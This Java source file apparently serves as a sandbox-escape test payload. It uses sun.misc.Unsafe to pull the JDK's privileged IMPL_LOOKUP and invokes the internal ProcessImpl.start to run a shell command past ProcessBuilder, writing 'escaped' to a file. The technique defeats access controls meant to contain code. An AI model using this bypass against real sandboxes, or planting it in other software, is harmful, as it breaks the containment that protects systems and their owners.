package escape.classes.layered;

import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.Field;
import java.util.Map;
import java.util.function.Function;

/**
 * What {@link escape.classes.ModuleLayerLoader} defines in a layer of its own: with
 * {@code sun.misc.Unsafe}, it reads the JDK's lookup of full power ({@code Lookup.IMPL_LOOKUP})
 * and starts a process by {@code ProcessImpl.start}, past {@code ProcessBuilder}.
 */
public final class Payload implements Function<String, String> {

    @Override
    public String apply(String file) {
        try {
            Field theUnsafe = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) theUnsafe.get(null);
            Field implLookup = MethodHandles.Lookup.class.getDeclaredField("IMPL_LOOKUP");
            MethodHandles.Lookup trusted = (MethodHandles.Lookup) unsafe.getObject(unsafe.staticFieldBase(implLookup),
                    unsafe.staticFieldOffset(implLookup));
            MethodHandle start = trusted.findStatic(Class.forName("java.lang.ProcessImpl"), "start", MethodType.methodType(
                    Process.class, String[].class, Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class));
            Process p = (Process) start.invoke(new String[] {"sh", "-c", "echo escaped > \"$1\"", "sh", file}, null, null, null, false);
            return "sh ended with " + p.waitFor();
        } catch (Throwable t) {
            return t.toString();
        }
    }
}
